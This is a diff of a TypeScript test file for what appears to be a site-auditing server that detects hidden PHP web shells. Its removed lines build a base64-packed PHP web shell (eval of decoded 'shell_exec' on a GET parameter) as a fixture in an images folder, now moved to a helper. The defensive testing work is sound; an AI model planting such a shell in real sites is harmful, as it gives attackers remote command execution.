@@ -7,14 +7,10 @@ import {
   type FindingOfSite,
   type SiteFinding,
 } from '../../server/src/protocol';
+import { plantedFile, SHELL_CODE } from '../support/plantedFile';
 import { TemporaryFolder } from '../support/temporaryFolder';
 import { connectServer, type TestClient } from '../support/testClient';
 import { every, logText } from '../support/traffic';
-
-/** What the planted file hides. Built here, so that no file of this project looks planted. */
-const HIDDEN = ['ec', 'ho shell_', "exec($_GET['c']);"].join('');
-const PACKED = Buffer.from(HIDDEN).toString('base64');
-const PLANTED = ['<?php\n\nev', 'al(base64_', `decode('${PACKED}'));\n`].join('');
 
 describe('A file of an audited site', () => {
   let folder: TemporaryFolder;
@@ -29,7 +25,7 @@ describe('A file of an audited site', () => {
   });
 
   beforeEach(async () => {
-    file = await folder.write('site/images/l.php', PLANTED);
+    file = await folder.write('site/images/l.php', plantedFile(SHELL_CODE));
     client = connectServer();
     await client.initialize();
   });
@@ -62,7 +58,7 @@ describe('A file of an audited site', () => {
     assert.ok(endColumn > column);
     const hover = await hoverAt(file, line, column);
     assert.match(hover ?? '', /\*\*Confirmed\*\*/);
-    assert.ok(hover?.includes(HIDDEN));
+    assert.ok(hover?.includes(SHELL_CODE));
     assert.equal(await hoverAt(file, 1, 0), undefined);
     assert.equal(await hoverAt(`${site}/index.html`, 0, 0), undefined);
   });
@@ -70,12 +66,12 @@ describe('A file of an audited site', () => {
   it('has what its hidden code says shown in a document', async () => {
     const { decoded } = await audited();
     assert.ok(decoded);
-    assert.ok(decoded.excerpt.includes(HIDDEN));
+    assert.ok(decoded.excerpt.includes(SHELL_CODE));
     const key = parseDecodedUri(decoded.document);
     assert.ok(key);
     const text = await client.connection.sendRequest(DecodedTextRequest, key);
     assert.match(text, /^<\?php \/\/ Only text, .* in images\/l\.php says\.\n/);
-    assert.ok(text.includes(`\n${HIDDEN}\n`));
+    assert.ok(text.includes(`\n${SHELL_CODE}\n`));
   });
 
   it('is asked about again when the server has forgotten it, or it was mended', async () => {
